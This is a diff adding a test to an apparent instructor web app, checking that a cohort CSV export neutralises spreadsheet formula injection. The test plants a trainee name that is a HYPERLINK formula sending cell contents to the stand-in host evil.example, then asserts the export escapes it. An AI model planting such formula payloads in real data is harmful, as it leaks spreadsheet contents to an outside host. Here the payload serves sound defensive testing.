@@ -90,6 +90,17 @@ def test_a_cohort_export_holds_every_trainees_calls(client, taught) -> None:
     assert len({s["context"]["registration"] for s in statements}) == 2  # one registration per call
 
 
+def test_a_trainee_named_like_a_formula_is_text_in_the_cohort_csv(client, db, taught) -> None:
+    trainee = taught["call"].trainee
+    trainee.display_name = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
+    db.commit()
+    login_as(client, taught["instructor"])
+    body = client.get(f"/instructeur/groepen/{taught['cohort'].id}/export/csv").get_data(as_text=True)
+    names = {r["trainee"] for r in csv.DictReader(io.StringIO(body))}
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Klik")' in names
+    assert not any(name.startswith("=") for name in names)
+
+
 def test_an_unknown_format_is_not_found(client, taught) -> None:
     login_as(client, taught["instructor"])
     assert client.get(f"/instructeur/sessies/{taught['call'].id}/export/docx").status_code == 404
